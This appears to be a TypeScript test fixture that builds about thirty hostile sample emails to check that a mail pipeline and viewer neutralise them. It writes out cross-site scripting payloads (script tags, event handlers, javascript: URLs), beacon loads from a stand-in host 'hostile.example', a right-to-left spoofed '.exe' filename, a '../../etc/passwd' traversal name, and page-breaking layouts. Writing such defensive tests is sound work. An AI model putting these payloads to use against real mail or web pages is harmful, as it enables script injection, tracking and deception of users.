// Mail that wants a page to run its script, to load from its host, to look like something else, or to fall apart.
import type { InboxMessage } from '#pipeline/contract/records/inbox-message.ts';
import { sampleId, sampleMessage } from './sample-message.ts';

/** What is asked for from this host tells that something was loaded. */
export const hostileHost = 'hostile.example';

const there = `http://${hostileHost}`;
const run = `top.wasRun=1;parent.wasRun=1;globalThis.wasRun=1;fetch('${there}/ran')`;
const quoted = run.replaceAll("'", '&#39;').replaceAll('"', '&quot;');
const long = 'W'.repeat(3_000);
const rtl = '\u202e\u2066\u200f';

const htmls: Readonly<Record<string, string>> = {
  script: `<script>${run}</script><p>x</p>`,
  'script in svg': `<svg><script>${run}</script></svg>`,
  'script from elsewhere': `<script src="${there}/s.js"></script>`,
  'event of a picture': `<img src=x onerror="${quoted}"><body onload="${quoted}">`,
  'event of svg': `<svg onload="${quoted}"><animate onbegin="${quoted}" attributeName=x dur=1s></svg>`,
  'event of media': `<video><source onerror="${quoted}"></video><details open ontoggle="${quoted}">`,
  'picture from elsewhere': `<img src="${there}/p.gif"><img srcset="${there}/q.gif 2x"><input type=image src="${there}/i">`,
  'style from elsewhere': `<link rel=stylesheet href="${there}/s.css"><style>@import "${there}/t.css";</style>`,
  'background from elsewhere': `<table background="${there}/b"><td style="background:url(${there}/c)">x</table>`,
  'font from elsewhere': `<style>@font-face{font-family:x;src:url(${there}/f)}p{font-family:x}</style><p>x`,
  'hints to load': `<link rel=dns-prefetch href="//${hostileHost}"><link rel=preconnect href="${there}"><link rel=prefetch href="${there}/pre">`,
  'frame from elsewhere': `<iframe src="${there}/f"></iframe><object data="${there}/o"></object><embed src="${there}/e">`,
  'frame with a script': `<iframe srcdoc="<script>${quoted}</script>"></iframe><iframe src="javascript:${quoted}"></iframe>`,
  'refresh to elsewhere': `<meta http-equiv=refresh content="0;url=${there}/refresh">`,
  'refresh to a script': `<meta http-equiv=refresh content="0;url=javascript:${quoted}">`,
  'form to elsewhere': `<form action="${there}/form"><input name=a autofocus onfocus="${quoted}"><button>Go</button></form>`,
  'base to elsewhere': `<base href="${there}/" target=_top><img src=rel.gif><a href=rel>x</a>`,
  'manifest and icon': `<link rel=manifest href="${there}/m"><link rel=icon href="${there}/icon">`,
  'unclosed textarea': `</p></iframe></div></body></html><textarea><script>${run}</script>`,
  'style that hides the page':
    '<style>html,body{position:fixed;inset:0;z-index:2147483647;background:red}*{display:none!important}</style>x',
  'ten thousand nested tables': '<table><tr><td>'.repeat(3_000),
  'a picture a million pixels wide': '<div style="width:1000000px;height:1000000px;background:red">x</div>',
  'a dangling attribute': `<img src='${there}/dangling?`,
  'a comment that ends twice': `<!--><script>${run}</script>--><!--!><img src=x onerror="${quoted}">-->`,
};

const headers: Readonly<Record<string, Partial<InboxMessage>>> = {
  'markup in every field': {
    subject: `<img src=${there}/s onerror=${run}>`,
    from: [{ name: `</bdi><script>${run}</script>`, address: `"><img src=x onerror=${run}>@b.example`, group: null }],
    to: [{ name: '<b>', address: '<svg/onload=top.wasRun=1>', group: null }],
    text: `<script>${run}</script>\n<img src="${there}/t">`,
    headers: [{ name: '<script>', raw: `<script>${run}</script>`, value: `<script>${run}</script>` }],
    problems: [{ code: '<script>', detail: `<img src=x onerror=${run}>` }],
  },
  'directions turned around': {
    subject: `${rtl}gnp.exe`,
    from: [{ name: `${rtl}knab`, address: 'bob@b.example', group: null }],
    text: `${rtl}turned around`,
  },
  'words without an end': {
    subject: long,
    from: [{ name: long, address: `${long}@b.example`, group: null }],
    to: [{ name: long, address: `${long}@a.example`, group: null }],
    text: long,
    html: `<p>${long}</p>`,
    headers: [{ name: long, raw: long, value: long }],
    problems: [{ code: 'a-problem', detail: long }],
  },
  'a hundred authors and recipients': {
    from: Array.from({ length: 100 }, (_, n) => ({ name: `Author ${n}`, address: `a${n}@b.example`, group: null })),
    to: Array.from({ length: 500 }, (_, n) => ({ name: '', address: `r${n}@a.example`, group: null })),
  },
  'names of files that are markup': {
    attachments: [`<img src=x onerror=${run}>.png`, `${rtl}gnp.exe`, long, '../../etc/passwd'].map((filename, n) => ({
      filename,
      contentType: ['image/png', 'text/html', 'image/svg+xml', '<script>'][n] ?? '',
      bytes: 3,
      sha256: '0'.repeat(64),
      key: `attachments/x/${n}`,
      contentId: null,
      inline: false,
    })),
  },
  'nothing at all': {
    subject: null,
    from: [],
    to: [],
    text: null,
    html: null,
    headers: [],
    date: null,
    messageId: null,
  },
};

/** Thirty of them, each by what it tries, with the raw message that its tree is drawn of. */
export const hostileMails: readonly { readonly about: string; readonly message: InboxMessage; readonly raw: string }[] =
  [
    ...Object.entries(htmls).map(([about, html]) => ({ about, changes: { html, text: null } })),
    ...Object.entries(headers).map(([about, changes]) => ({ about, changes })),
  ].map(({ about, changes }, n) => ({
    about,
    message: sampleMessage({ id: sampleId(n + 1), subject: about, ...changes }),
    raw: `Subject: <script>${run}</script>\r\nContent-Type: ${n % 2 === 0 ? 'multipart/mixed; boundary=b' : long}\r\n\r\n--b\r\nContent-Type: image/png; name="${long}"\r\n\r\n${rtl}\u0000x\r\n--b--\r\n`,
  }));
